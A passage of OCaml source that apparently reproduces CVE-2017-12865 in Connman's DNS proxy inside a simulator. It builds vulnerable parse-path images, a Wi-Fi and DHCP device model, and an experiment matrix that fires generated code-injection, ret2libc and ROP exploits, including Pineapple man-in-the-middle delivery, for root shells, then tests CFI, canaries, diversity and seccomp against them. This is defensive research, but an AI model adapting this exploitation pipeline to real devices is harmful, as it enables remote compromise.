  split k [] chunks

let spec ~version ~profile ?diversity_seed () =
  let chunks = rotate_by_version version (chunks ~version ~profile) in
  let program =
    match diversity_seed with
    | None -> List.concat_map snd chunks
    | Some seed ->
        (* Compile-time diversity (§IV): shuffle function order, insert
           random NOP padding, and apply equivalent-instruction
           rewrites, so every code address moves between builds. *)
        fst (Diversity.Variant.x86 ~seed chunks)
  in
  {
    Loader.Process.name = Printf.sprintf "connmand-%s" (Version.to_string version);
    code = Loader.Process.X86_code program;
    imports =
      [ "memcpy"; "execlp"; "exit"; "abort"; "__stack_chk_fail"; "__strcpy_chk" ];
    bss_size = 0x2000;
  }

let variant_plan ~version ~profile ~seed =
  snd
    (Diversity.Variant.x86 ~seed
       (rotate_by_version version (chunks ~version ~profile)))
