(** The Connman DNS-proxy parse path, compiled for x86-32.

    Functions (all reachable from [parse_response]):
    - [parse_response(buf, len)] — frame holds [name\[1024\]]; walks the
      header and question, then expands the first answer's owner name.
    - [get_name(msg, p, name, name_len)] — the CVE-2017-12865 site: the
      Listing-1 copy with no bound in vulnerable versions, with the 1.35
      size check in patched ones.
    - [parse_rr], [cache_store], and a handful of auxiliary routines that
      make the image realistic (and, as on the real binary, provide the
      [pop pop pop ret] material §III-C1 scavenges).

    [diversity_seed] applies function-level code-layout randomization
    (compile-time artificial software diversity, §IV): chunk order is
    shuffled, moving every gadget address. *)

val spec :
  version:Version.t ->
  profile:Defense.Profile.t ->
  ?diversity_seed:int ->
  unit ->
  Loader.Process.spec

val variant_plan :
  version:Version.t ->
  profile:Defense.Profile.t ->
  seed:int ->
  Diversity.Variant.plan
(** The diversification stats ({!Diversity.Variant.plan}) of the variant
    [spec ~diversity_seed:seed] builds — same pipeline, same seed, so the
    plan describes exactly that image. *)

val entry : string
(** Name of the response-parsing entry point ("parse_response"). *)
