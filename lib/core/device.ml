module W = Netsim.World
module Dnsproxy = Connman.Dnsproxy

type t = {
  name : string;
  host : W.host;
  daemon : Dnsproxy.t;
  world : W.t;
  mutable dispositions : Dnsproxy.disposition list;  (* newest first *)
  mutable events : string list;  (* newest first *)
  mutable state : [ `Online | `Crashed | `Compromised | `Blocked ];
  mutable supervisor : Supervisor.t option;
}

let log t fmt = Format.kasprintf (fun s -> t.events <- s :: t.events) fmt

let classify = function
  | Dnsproxy.Cached _ | Dnsproxy.Dropped _ -> `Online
  | Dnsproxy.Crashed _ -> `Crashed
  | Dnsproxy.Compromised _ -> `Compromised
  | Dnsproxy.Blocked _ -> `Blocked

let dns_client_port = 5353

let create world ~name ~config =
  let host = W.add_host world ~name in
  let daemon = Dnsproxy.create config in
  let t =
    {
      name;
      host;
      daemon;
      world;
      dispositions = [];
      events = [];
      state = `Online;
      supervisor = None;
    }
  in
  (* Responses to the proxy's upstream queries arrive on the client
     port and flow into the vulnerable parse path. *)
  W.on_udp host ~port:dns_client_port (fun _ctx dgram ->
      let disposition =
        Dnsproxy.handle_response
          ~origin:(Netsim.Ip.to_string dgram.W.src)
          daemon dgram.W.payload
      in
      t.dispositions <- disposition :: t.dispositions;
      (match classify disposition with
      | `Online -> ()
      | other -> t.state <- other);
      log t "dns response from %s: %a"
        (Netsim.Ip.to_string dgram.W.src)
        Dnsproxy.pp_disposition disposition;
      (* The init system notices a dead connmand from the same signal a
         defender has: the daemon stopped answering. *)
      Option.iter Supervisor.notify t.supervisor);
  t

let of_firmware world ~name ?boot_seed fw =
  create world ~name ~config:(Firmware.to_config ?boot_seed fw)

let host t = t.host
let daemon t = t.daemon
let name t = t.name

let lookup t hostname =
  match (W.host_dns t.host, Dnsproxy.alive t.daemon) with
  | None, _ ->
      log t "lookup %s skipped: no DNS server configured" hostname
  | _, false -> log t "lookup %s skipped: connmand is down" hostname
  | Some dns, true ->
      let query = Dnsproxy.make_query t.daemon (Dns.Name.of_string hostname) in
      log t "querying %s for %s" (Netsim.Ip.to_string dns) hostname;
      W.send t.world ~from:t.host ~sport:dns_client_port ~dst:dns ~dport:53
        (Dns.Packet.encode query)

(* Resolver clients retransmit on timeout; an attempt is "answered" when
   any new disposition arrived since it was sent. *)
let lookup_with_policy t hostname policy =
  let seen = ref 0 in
  Supervisor.Retry.run (W.sim t.world) policy
    ~attempt:(fun i ->
      if i > 0 then
        log t "lookup %s timed out; retrying (%d left)" hostname
          (policy.Supervisor.Retry.attempts - i);
      seen := List.length t.dispositions;
      lookup t hostname)
    ~still_needed:(fun () ->
      List.length t.dispositions = !seen
      && Dnsproxy.alive t.daemon
      && W.host_dns t.host <> None)
    ()

let lookup_with_retry t hostname ~retries ~timeout_us =
  if retries < 0 then invalid_arg "Device.lookup_with_retry: negative retries";
  lookup_with_policy t hostname
    (Supervisor.Retry.fixed ~attempts:(retries + 1) ~timeout_us)

let supervise ?policy t =
  let sup =
    Supervisor.supervise ?policy ~name:t.name
      ~on_event:(fun e ->
        log t "supervisor: %a" Supervisor.pp_event e;
        match e.Supervisor.kind with
        | Supervisor.Restarted -> t.state <- `Online
        | _ -> ())
      (W.sim t.world)
      (module Supervisor.Connman_daemon)
      t.daemon
  in
  t.supervisor <- Some sup;
  sup

(* Connman's connectivity check: performed whenever the device gets a
   fresh network configuration. *)
let connectivity_hostname = "ipv4.connman.net"

let rec join_wifi t aps ~ssid =
  match Netsim.Wifi.associate t.host aps ~ssid with
  | None ->
      log t "no access point found for ssid %S" ssid;
      None
  | Some ap ->
      log t "associated to %s (%S, %d dBm)" ap.Netsim.Wifi.ap_name ssid
        ap.Netsim.Wifi.signal_dbm;
      Netsim.Dhcp.solicit t.world t.host
        ~on_configured:(fun _ctx ->
          log t "dhcp: ip %s, dns %s"
            (match W.host_ip t.host with
            | Some ip -> Netsim.Ip.to_string ip
            | None -> "?")
            (match W.host_dns t.host with
            | Some ip -> Netsim.Ip.to_string ip
            | None -> "?");
          lookup t connectivity_hostname)
        ();
      Some ap

(* Background roaming: rescan periodically and re-associate whenever a
   stronger AP carries the trusted SSID — the radio behaviour §III-D
   exploits.  [scan] yields whatever APs are in the air at that moment,
   so an attacker AP appearing later is picked up automatically. *)
and start_roaming t ~scan ~ssid ~interval_us ~rounds =
  if rounds > 0 then
    Netsim.Sim.schedule (W.sim t.world) ~delay:interval_us (fun _ ->
        let current = W.lan_of t.host in
        (match Netsim.Wifi.scan (scan ()) ~ssid with
        | best :: _
          when (match current with
               | Some lan -> W.lan_name lan <> W.lan_name best.Netsim.Wifi.lan
               | None -> true) ->
            log t "roaming: stronger AP %s (%d dBm) for %S"
              best.Netsim.Wifi.ap_name best.Netsim.Wifi.signal_dbm ssid;
            ignore (join_wifi t (scan ()) ~ssid)
        | _ -> ());
        start_roaming t ~scan ~ssid ~interval_us ~rounds:(rounds - 1))

let last_disposition t =
  match t.dispositions with [] -> None | d :: _ -> Some d

let dispositions t = List.rev t.dispositions
let state t = t.state
let events t = List.rev t.events
