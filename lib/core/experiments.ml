module Dnsproxy = Connman.Dnsproxy
module Version = Connman.Version
module Profile = Defense.Profile
module Autogen = Exploit.Autogen
module O = Machine.Outcome

type row = {
  id : string;
  section : string;
  description : string;
  expected : string;
  observed : string;
  ok : bool;
}

let lookup = Dns.Name.of_string "ipv4.connman.net"

let mk_device ?(version = Version.v1_34) ?(seed = 1) ?diversity_seed arch profile =
  Dnsproxy.create
    { Dnsproxy.version; arch; profile; boot_seed = seed; diversity_seed }

(* Build the payload against the attacker's analysis copy (a different
   boot of the same firmware), then fire it over a forged response. *)
let fire ?strategy d =
  let cfg = Dnsproxy.config d in
  let analysis =
    Dnsproxy.process
      (Dnsproxy.create { cfg with Dnsproxy.boot_seed = cfg.Dnsproxy.boot_seed + 5000 })
  in
  match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ?strategy () with
  | Error e -> Error e
  | Ok (payload, raw_name) ->
      let query = Dnsproxy.make_query d lookup in
      Ok
        ( payload,
          Dnsproxy.handle_response d (Autogen.response_for ~query ~raw_name) )

let disposition_word = function
  | Dnsproxy.Cached _ -> "parsed"
  | Dnsproxy.Dropped _ -> "dropped"
  | Dnsproxy.Crashed _ -> "crash"
  | Dnsproxy.Compromised r when O.is_shell r -> "root shell"
  | Dnsproxy.Compromised _ -> "code execution"
  | Dnsproxy.Blocked _ -> "blocked"

let row ~id ~section ~description ~expected observed =
  { id; section; description; expected; observed; ok = expected = observed }

(* --- E0: denial of service --------------------------------------------- *)

let dos_wire q =
  Dns.Craft.hostile_response ~query:q ~raw_name:(Dns.Craft.dos_name ~size:8192) ()

let e0_dos ?(seed = 1) () =
  List.concat_map
    (fun arch ->
      let vulnerable = mk_device ~seed arch Profile.wx in
      let q = Dnsproxy.make_query vulnerable lookup in
      let got = Dnsproxy.handle_response vulnerable (dos_wire q) in
      let patched = mk_device ~version:Version.v1_35 ~seed arch Profile.wx in
      let q2 = Dnsproxy.make_query patched lookup in
      let got2 = Dnsproxy.handle_response patched (dos_wire q2) in
      [
        row
          ~id:(Printf.sprintf "E0/%s" (Loader.Arch.name arch))
          ~section:"§III" ~description:"oversized Type-A response vs 1.34"
          ~expected:"crash" (disposition_word got);
        row
          ~id:(Printf.sprintf "E0/%s/patched" (Loader.Arch.name arch))
          ~section:"§II" ~description:"same response vs patched 1.35"
          ~expected:"parsed" (disposition_word got2);
      ])
    Loader.Arch.all

(* --- E1–E6: the six-exploit matrix -------------------------------------- *)

let matrix_cells =
  [
    ("E1", "§III-A1", Loader.Arch.X86, Profile.none, Autogen.Code_injection,
     "code injection, no protections");
    ("E2", "§III-A2", Loader.Arch.Arm, Profile.none, Autogen.Code_injection,
     "code injection, no protections");
    ("E3", "§III-B1", Loader.Arch.X86, Profile.wx, Autogen.Ret2libc,
     "ret2libc under W^X");
    ("E4", "§III-B2", Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx,
     "gadget chain under W^X");
    ("E5", "§III-C1", Loader.Arch.X86, Profile.wx_aslr, Autogen.Rop_aslr,
     "memcpy/.bss ROP under W^X+ASLR");
    ("E6", "§III-C2", Loader.Arch.Arm, Profile.wx_aslr, Autogen.Rop_aslr,
     "blx-trampoline ROP under W^X+ASLR");
  ]

let e1_to_e6_matrix ?(seed = 1) () =
  List.map
    (fun (id, section, arch, profile, strategy, description) ->
      let d = mk_device ~seed arch profile in
      let observed =
        match fire ~strategy d with
        | Error e -> "generation failed: " ^ e
        | Ok (_, disposition) -> disposition_word disposition
      in
      let description =
        Printf.sprintf "%s (%s)" description (Loader.Arch.name arch)
      in
      row ~id ~section ~description ~expected:"root shell" observed)
    matrix_cells

(* --- E7: Wi-Fi Pineapple remote delivery -------------------------------- *)

let e7_pineapple ?(seed = 1) () =
  let cells =
    [
      ("E7/x86-smash", Loader.Arch.X86, Profile.none, Some Autogen.Code_injection);
      ("E7/arm-inject", Loader.Arch.Arm, Profile.none, Some Autogen.Code_injection);
      ("E7/arm-wx", Loader.Arch.Arm, Profile.wx, Some Autogen.Rop_wx);
      ("E7/arm-aslr", Loader.Arch.Arm, Profile.wx_aslr, Some Autogen.Rop_aslr);
    ]
  in
  List.map
    (fun (id, arch, profile, strategy) ->
      let config =
        {
          Dnsproxy.version = Version.v1_34;
          arch;
          profile;
          boot_seed = seed;
          diversity_seed = None;
        }
      in
      let observed =
        match Scenario.pineapple_attack ~seed ?strategy ~config () with
        | Error e -> "generation failed: " ^ e
        | Ok r -> (
            if r.Scenario.associated_after <> "pineapple" then "no hijack"
            else
              match r.Scenario.attack_disposition with
              | Some d -> disposition_word d
              | None -> "no response")
      in
      row ~id ~section:"§III-D"
        ~description:
          (Printf.sprintf "Pineapple MITM, %s, %s" (Loader.Arch.name arch)
             (Profile.name profile))
        ~expected:"root shell" observed)
    cells

(* --- E8: firmware survey ------------------------------------------------ *)

let e8_survey ?(seed = 1) () =
  List.map
    (fun fw ->
      let d = Dnsproxy.create (Firmware.to_config ~boot_seed:seed fw) in
      let q = Dnsproxy.make_query d lookup in
      let wire =
        Dns.Craft.hostile_response ~query:q
          ~raw_name:(Dns.Craft.dos_name ~size:8192)
          ()
      in
      let got = Dnsproxy.handle_response d wire in
      row
        ~id:("E8/" ^ fw.Firmware.name)
        ~section:"§II–III"
        ~description:
          (Printf.sprintf "%s (connman %s)" fw.Firmware.os
             (Version.to_string fw.Firmware.connman))
        ~expected:(if Firmware.vulnerable fw then "crash" else "parsed")
        (disposition_word got))
    Firmware.catalog

(* --- A1: CFI blocks every code-reuse exploit ---------------------------- *)

let a1_cfi ?(seed = 1) () =
  List.map
    (fun (id, _, arch, profile, strategy, _) ->
      let d = mk_device ~seed arch (Profile.with_cfi profile) in
      let observed =
        match fire ~strategy d with
        | Error e -> "generation failed: " ^ e
        | Ok (_, disposition) -> disposition_word disposition
      in
      let expected =
        (* CFI CaRE guards return edges; pure code injection is already
           dead under W^X but the injected return still violates the
           shadow stack. *)
        "blocked"
      in
      row
        ~id:("A1/" ^ id)
        ~section:"§IV"
        ~description:
          (Printf.sprintf "CFI vs %s on %s" (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected observed)
    matrix_cells

(* --- A2: software diversity --------------------------------------------- *)

let a2_diversity ?(seed = 1) ?(fleet = 16) () =
  let arch = Loader.Arch.Arm in
  let analysis =
    Dnsproxy.process (mk_device ~seed ~diversity_seed:0 arch Profile.wx)
  in
  match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ~strategy:Autogen.Rop_wx () with
  | Error e ->
      [
        row ~id:"A2" ~section:"§IV" ~description:"diversity fleet"
          ~expected:"0 compromised" ("generation failed: " ^ e);
      ]
  | Ok (_, raw_name) ->
      let compromised = ref 0 in
      for i = 1 to fleet do
        let d = mk_device ~seed:(seed + i) ~diversity_seed:i arch Profile.wx in
        let query = Dnsproxy.make_query d lookup in
        match Dnsproxy.handle_response d (Autogen.response_for ~query ~raw_name) with
        | Dnsproxy.Compromised _ -> incr compromised
        | _ -> ()
      done;
      (* Control: the same payload against the build it was made for. *)
      let same = mk_device ~seed:(seed + 999) ~diversity_seed:0 arch Profile.wx in
      let query = Dnsproxy.make_query same lookup in
      let control =
        Dnsproxy.handle_response same (Autogen.response_for ~query ~raw_name)
      in
      [
        (* Diversity is probabilistic protection (§IV): the claim is that a
           single payload stops working across the fleet, not that every
           build is immune — a shuffle can coincide.  Pass when at most an
           eighth of the fleet falls. *)
        {
          id = "A2/fleet";
          section = "§IV";
          description =
            Printf.sprintf "one payload vs %d diversified builds" fleet;
          expected = Printf.sprintf "<= %d compromised" (fleet / 8);
          observed = Printf.sprintf "%d compromised" !compromised;
          ok = !compromised <= fleet / 8;
        };
        row ~id:"A2/control" ~section:"§IV"
          ~description:"same payload vs the build it targets"
          ~expected:"root shell" (disposition_word control);
      ]

(* --- A3: stack canaries -------------------------------------------------- *)

let a3_canary ?(seed = 1) () =
  List.map
    (fun (id, _, arch, profile, strategy, _) ->
      let d = mk_device ~seed arch (Profile.with_canary profile) in
      let observed =
        match fire ~strategy d with
        | Error e -> "generation failed: " ^ e
        | Ok (_, disposition) -> disposition_word disposition
      in
      row
        ~id:("A3/" ^ id)
        ~section:"§III (CFLAGS)"
        ~description:
          (Printf.sprintf "canary vs %s on %s" (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected:"blocked" observed)
    matrix_cells

(* --- A4: ASLR entropy brute-force sweep ---------------------------------- *)

let a4_entropy_sweep ?(seed = 1) ?(trials = 64) ?(bits = [ 0; 2; 4; 6 ]) () =
  let arch = Loader.Arch.X86 in
  (* Attacker hardcodes the static libc layout (analysis without ASLR). *)
  let analysis = Dnsproxy.process (mk_device ~seed arch Profile.wx) in
  match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ~strategy:Autogen.Ret2libc () with
  | Error e ->
      [
        row ~id:"A4" ~section:"related work" ~description:"entropy sweep"
          ~expected:"-" ("generation failed: " ^ e);
      ]
  | Ok (_, raw_name) ->
      List.map
        (fun b ->
          let profile = Profile.with_entropy b Profile.wx in
          let hits = ref 0 in
          for i = 1 to trials do
            let d = mk_device ~seed:(seed + (i * 131)) arch profile in
            let query = Dnsproxy.make_query d lookup in
            match
              Dnsproxy.handle_response d (Autogen.response_for ~query ~raw_name)
            with
            | Dnsproxy.Compromised _ -> incr hits
            | _ -> ()
          done;
          let rate = Stats.binomial_rate ~hits:!hits ~trials in
          let expected_rate = 1.0 /. float_of_int (1 lsl b) in
          (* The Wilson interval of the measurement must cover the theory
             (z = 2.58 for a 99% interval keeps seed-to-seed flakiness
             negligible across the whole sweep). *)
          let interval = Stats.wilson_interval ~hits:!hits ~trials ~z:2.58 () in
          {
            id = Printf.sprintf "A4/%d-bits" b;
            section = "§VI (brute force)";
            description =
              Printf.sprintf "ret2libc vs %d entropy bits (%d trials)" b trials;
            expected = Printf.sprintf "rate ~ %.3f" expected_rate;
            observed = Printf.sprintf "rate = %.3f" rate;
            ok = Stats.interval_contains interval expected_rate;
          })
        bits

(* --- A6: §V adaptation — the toolkit vs dnsmasq-sim ---------------------- *)

let a6_adaptation ?(seed = 1) () =
  let module D = Dnsmasq.Daemon in
  let dnsmasq_target proc =
    Exploit.Target.make
      ~frame:(Dnsmasq.Frame.geometry proc.Loader.Process.arch)
      ~buffer_addr:(Dnsmasq.Frame.buffer_addr proc)
      proc
  in
  let fire_dnsmasq ~patched arch profile strategy =
    let d = D.create { D.patched; arch; profile; boot_seed = seed } in
    let analysis =
      D.process (D.create { D.patched; arch; profile; boot_seed = seed + 5000 })
    in
    match Autogen.generate ~analysis:(dnsmasq_target analysis) ~strategy () with
    | Error e -> "generation failed: " ^ e
    | Ok (_, raw_name) -> (
        let query = D.make_query d (Dns.Name.of_string "upstream.example") in
        match D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ())
        with
        | D.Cached _ -> "parsed"
        | D.Dropped _ -> "dropped"
        | D.Crashed _ -> "crash"
        | D.Compromised r when O.is_shell r -> "root shell"
        | D.Compromised _ -> "code execution"
        | D.Blocked _ -> "blocked")
  in
  List.map
    (fun (id, arch, profile, strategy, patched, expected) ->
      row
        ~id:("A6/" ^ id)
        ~section:"§V"
        ~description:
          (Printf.sprintf "dnsmasq-sim %s: %s on %s"
             (if patched then "2.78" else "2.77")
             (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected
        (fire_dnsmasq ~patched arch profile strategy))
    [
      ("dos", Loader.Arch.X86, Profile.wx, Autogen.Dos, false, "crash");
      ("inject-x86", Loader.Arch.X86, Profile.none, Autogen.Code_injection, false,
       "root shell");
      ("ret2libc-x86", Loader.Arch.X86, Profile.wx, Autogen.Ret2libc, false,
       "root shell");
      ("ropwx-arm", Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx, false,
       "root shell");
      ("ropaslr-arm", Loader.Arch.Arm, Profile.wx_aslr, Autogen.Rop_aslr, false,
       "root shell");
      ("patched", Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx, true, "parsed");
    ]

(* --- A5: the automated generator end-to-end ------------------------------ *)

let a5_autogen ?(seed = 1) () =
  List.map
    (fun (arch, profile) ->
      let d = mk_device ~seed arch profile in
      let observed =
        match fire d with
        | Error e -> "generation failed: " ^ e
        | Ok (payload, disposition) ->
            Printf.sprintf "%s via %s" (disposition_word disposition)
              payload.Exploit.Payload.strategy
      in
      let expected =
        Printf.sprintf "root shell via %s"
          (Autogen.strategy_name (Autogen.choose profile arch))
      in
      row
        ~id:
          (Printf.sprintf "A5/%s-%s" (Loader.Arch.name arch) (Profile.name profile))
        ~section:"§VII" ~description:"strategy auto-selection" ~expected observed)
    [
      (Loader.Arch.X86, Profile.none);
      (Loader.Arch.X86, Profile.wx);
      (Loader.Arch.X86, Profile.wx_aslr);
      (Loader.Arch.Arm, Profile.none);
      (Loader.Arch.Arm, Profile.wx);
      (Loader.Arch.Arm, Profile.wx_aslr);
    ]

(* --- A8: §V protocol adaptation — crafted TCP packets --------------------- *)

let a8_tcp_carrier ?(seed = 1) () =
  let module D = Tcpsvc.Daemon in
  let tcpsvc_target proc =
    Exploit.Target.make
      ~frame:(Tcpsvc.Frame.geometry proc.Loader.Process.arch)
      ~buffer_addr:(Tcpsvc.Frame.buffer_addr proc)
      proc
  in
  let fire ~patched arch profile strategy =
    let d = D.create { D.patched; arch; profile; boot_seed = seed } in
    let analysis =
      D.process (D.create { D.patched; arch; profile; boot_seed = seed + 5000 })
    in
    match Autogen.build ~analysis:(tcpsvc_target analysis) strategy with
    | Error e -> Format.asprintf "generation failed: %a" Exploit.Payload.pp_error e
    | Ok payload -> (
        match
          D.handle_frame d (D.frame ~tag:(Exploit.Payload.to_raw_bytes payload))
        with
        | D.Handled -> "handled"
        | D.Rejected _ -> "rejected"
        | D.Crashed _ -> "crash"
        | D.Compromised r when O.is_shell r -> "root shell"
        | D.Compromised _ -> "code execution"
        | D.Blocked _ -> "blocked")
  in
  List.map
    (fun (id, arch, profile, strategy, patched, expected) ->
      row
        ~id:("A8/" ^ id)
        ~section:"§V"
        ~description:
          (Printf.sprintf "tcpsvc-sim %s: %s on %s"
             (if patched then "1.1" else "1.0")
             (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected
        (fire ~patched arch profile strategy))
    [
      ("inject-arm", Loader.Arch.Arm, Profile.none, Autogen.Code_injection, false,
       "root shell");
      ("ret2libc-x86", Loader.Arch.X86, Profile.wx, Autogen.Ret2libc, false,
       "root shell");
      ("ropaslr-x86", Loader.Arch.X86, Profile.wx_aslr, Autogen.Rop_aslr, false,
       "root shell");
      ("ropaslr-arm", Loader.Arch.Arm, Profile.wx_aslr, Autogen.Rop_aslr, false,
       "root shell");
      ("patched", Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx, true, "rejected");
    ]

(* --- A7: seccomp syscall filter ------------------------------------------ *)

let a7_seccomp ?(seed = 1) () =
  List.map
    (fun (id, _, arch, profile, strategy, _) ->
      let d = mk_device ~seed arch (Profile.with_seccomp profile) in
      let observed =
        match fire ~strategy d with
        | Error e -> "generation failed: " ^ e
        | Ok (_, disposition) -> disposition_word disposition
      in
      row
        ~id:("A7/" ^ id)
        ~section:"hardening"
        ~description:
          (Printf.sprintf "seccomp (no exec) vs %s on %s"
             (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected:"blocked" observed)
    matrix_cells

let all ?(seed = 1) () =
  e0_dos ~seed ()
  @ e1_to_e6_matrix ~seed ()
  @ e7_pineapple ~seed ()
  @ e8_survey ~seed ()
  @ a1_cfi ~seed ()
  @ a2_diversity ~seed ()
  @ a3_canary ~seed ()
  @ a4_entropy_sweep ~seed ()
  @ a5_autogen ~seed ()
  @ a6_adaptation ~seed ()
  @ a7_seccomp ~seed ()
  @ a8_tcp_carrier ~seed ()

(* --- C: chaos campaign — the matrix under deterministic faults ----------- *)

module W = Netsim.World
module F = Netsim.Faults
module Ip = Netsim.Ip

type chaos_row = {
  cell : string;
  schedule : string;
  compromised : bool;
  crashes : int;
  restarts : int;
  gave_up : bool;
  availability : float;  (* benign-phase lookups answered / attempted *)
  delivered : int;
  dropped : int;
  dropped_fault : int;
  dropped_link : int;
  corrupted : int;
  duplicated : int;
  reordered : int;
}

type sweep_point = { sweep_loss : float; sweep_trials : int; sweep_hits : int }

type chaos_report = {
  chaos_seed : int;
  chaos_smoke : bool;
  chaos_shards : int;
  chaos_rows : chaos_row list;
  chaos_sweep : sweep_point list;
}

(* Named fault schedules, each a single impairment turned up far enough
   to matter.  The flap windows are chosen against the campaign timeline
   below: the first knocks out two attack rounds, the second two benign
   rounds. *)
let chaos_schedules =
  [
    ("clean", F.default);
    ("loss-30", F.lossy 0.30);
    ("loss-60", F.lossy 0.60);
    ("loss-90", F.lossy 0.90);
    ( "dup-reorder",
      { F.default with F.duplicate = 0.35; reorder = 0.5; reorder_window_us = 4_000 } );
    ("corrupt-20", { F.default with F.corrupt = 0.20 });
    ( "flappy",
      { F.default with F.flaps = [ (5_500_000, 12_000_000); (32_500_000, 39_000_000) ] } );
  ]

let chaos_cells =
  ("DoS", Loader.Arch.X86, Profile.wx, `Dos)
  :: List.map
       (fun (id, _, arch, profile, strategy, _) ->
         (id, arch, profile, `Exploit strategy))
       matrix_cells

(* Campaign timeline (µs): attack lookups, then the forge turns honest
   and the benign lookups measure availability. *)
let chaos_attack_rounds = 6
let chaos_benign_rounds = 4
let chaos_round_gap_us = 5_000_000
let chaos_attack_start_us = 1_000_000
let chaos_benign_start_us = 31_000_000

let count_cached device =
  List.length
    (List.filter
       (function Dnsproxy.Cached _ -> true | _ -> false)
       (Device.dispositions device))

(* One cell × one schedule: a victim and a malicious resolver alone on an
   impaired LAN, connmand under supervision.  [instrument] runs once the
   world, device, and supervisor exist but before any traffic — the
   telemetry layer's attach point. *)
let run_chaos_cell ?(instrument = fun _ _ _ -> ()) ?(shards = 1) ~seed
    (cell, arch, profile, kind) (sched_name, policy) =
  let world = W.create ~seed ~shards () in
  let lan = W.add_lan world ~name:"venue" in
  W.set_lan_policy world lan policy;
  let attacker_ip = Ip.of_string "10.9.0.1" in
  let attacker = W.add_host world ~name:"attacker" in
  W.set_host_ip attacker (Some attacker_ip);
  W.attach attacker lan;
  let config =
    { Dnsproxy.version = Version.v1_34; arch; profile; boot_seed = seed;
      diversity_seed = None }
  in
  let device = Device.create world ~name:"victim" ~config in
  W.attach (Device.host device) lan;
  W.set_host_ip (Device.host device) (Some (Ip.of_string "10.9.0.100"));
  W.set_host_dns (Device.host device) (Some attacker_ip);
  let sup = Device.supervise device in
  instrument world device sup;
  let attack_response =
    match kind with
    | `Dos ->
        fun ~query ->
          Some
            (Dns.Craft.hostile_response ~query
               ~raw_name:(Dns.Craft.dos_name ~size:8192) ())
    | `Exploit strategy -> (
        let analysis =
          Dnsproxy.process
            (Dnsproxy.create { config with Dnsproxy.boot_seed = seed + 5000 })
        in
        match
          Autogen.generate ~analysis:(Exploit.Target.connman analysis) ~strategy ()
        with
        | Ok (_, raw_name) ->
            fun ~query -> Some (Autogen.response_for ~query ~raw_name)
        | Error _ -> fun ~query:_ -> None)
  in
  let benign_ip = Ip.of_string "93.184.216.34" in
  let mode = ref `Attack in
  Netsim.Dns_server.malicious world attacker ~forge:(fun ~query ~raw:_ ->
      match !mode with
      | `Attack -> attack_response ~query
      | `Benign -> (
          match query.Dns.Packet.questions with
          | [] -> None
          | q :: _ ->
              Some
                (Dns.Packet.encode
                   (Dns.Packet.response ~query
                      [ Dns.Packet.a_record q.Dns.Packet.qname ~ttl:300
                          ~ipv4:benign_ip ]))))
    ;
  let sim = W.sim world in
  let fire _ =
    Device.lookup_with_retry device "ipv4.connman.net" ~retries:2
      ~timeout_us:1_500_000
  in
  for i = 0 to chaos_attack_rounds - 1 do
    Netsim.Sim.schedule sim
      ~delay:(chaos_attack_start_us + (i * chaos_round_gap_us))
      fire
  done;
  let benign_baseline = ref 0 in
  Netsim.Sim.schedule sim ~delay:(chaos_benign_start_us - 500_000) (fun _ ->
      mode := `Benign;
      benign_baseline := count_cached device);
  for i = 0 to chaos_benign_rounds - 1 do
    Netsim.Sim.schedule sim
      ~delay:(chaos_benign_start_us + (i * chaos_round_gap_us))
      fire
  done;
  ignore (W.run world);
  let st = W.stats world in
  let answered = count_cached device - !benign_baseline in
  {
    cell;
    schedule = sched_name;
    compromised =
      List.exists
        (function Dnsproxy.Compromised _ -> true | _ -> false)
        (Device.dispositions device);
    crashes = Supervisor.crashes sup;
    restarts = Supervisor.restarts sup;
    gave_up = Supervisor.gave_up sup;
    availability =
      min 1.0 (float_of_int answered /. float_of_int chaos_benign_rounds);
    delivered = st.W.delivered;
    dropped = st.W.dropped;
    dropped_fault = st.W.dropped_fault;
    dropped_link = st.W.dropped_link;
    corrupted = st.W.corrupted;
    duplicated = st.W.duplicated;
    reordered = st.W.reordered;
  }

(* A chaos cell with the telemetry layer attached: trace sinks on the
   world, the daemon (and through it the process memory and the traced
   CPU), and the supervisor; optional profiler on the parse; optional
   metrics registry over all three.  Returns the row plus a symbolizer
   bound to the daemon's current process, for rendering the profile. *)
let run_instrumented_cell ?(seed = 1) ?(schedule = "clean") ?(shards = 1)
    ?trace ?profiler ?metrics ?monitor ~cell () =
  match
    ( List.find_opt (fun (id, _, _, _) -> id = cell) chaos_cells,
      List.assoc_opt schedule chaos_schedules )
  with
  | None, _ ->
      Error
        (Printf.sprintf "unknown cell %S (expected one of: %s)" cell
           (String.concat ", " (List.map (fun (id, _, _, _) -> id) chaos_cells)))
  | _, None ->
      Error
        (Printf.sprintf "unknown schedule %S (expected one of: %s)" schedule
           (String.concat ", " (List.map fst chaos_schedules)))
  | Some cell_spec, Some policy ->
      let daemon_ref = ref None in
      let instrument world device sup =
        let daemon = Device.daemon device in
        daemon_ref := Some daemon;
        (match trace with
        | None -> ()
        | Some _ ->
            W.set_trace world trace;
            Dnsproxy.set_trace daemon trace;
            Supervisor.set_trace sup trace);
        (match profiler with
        | None -> ()
        | Some _ -> Dnsproxy.set_profiler daemon profiler);
        (* The monitor's registry rides the same probe set; dedupe when
           the caller passed it as [?metrics] too. *)
        (* The monitor's registry skips the per-shard netsim breakdown so
           its series set is shard-count independent (the byte-identity
           contract); an explicit [?metrics] registry keeps it. *)
        let regs =
          let base = match metrics with None -> [] | Some r -> [ (r, true) ] in
          match monitor with
          | None -> base
          | Some m ->
              let mr = Telemetry.Monitor.registry m in
              if List.exists (fun (r, _) -> r == mr) base then
                List.map (fun (r, ps) -> (r, ps && r != mr)) base
              else base @ [ (mr, false) ]
        in
        List.iter
          (fun (reg, per_shard) ->
            W.register_metrics ~per_shard world reg;
            Dnsproxy.register_metrics daemon reg;
            Supervisor.register_metrics sup reg)
          regs;
        match monitor with
        | None -> ()
        | Some m ->
            Supervisor.set_monitor sup (Some m);
            W.set_barrier world
              ~every_us:(Telemetry.Monitor.interval_us m)
              (fun now -> Telemetry.Monitor.scrape m ~now)
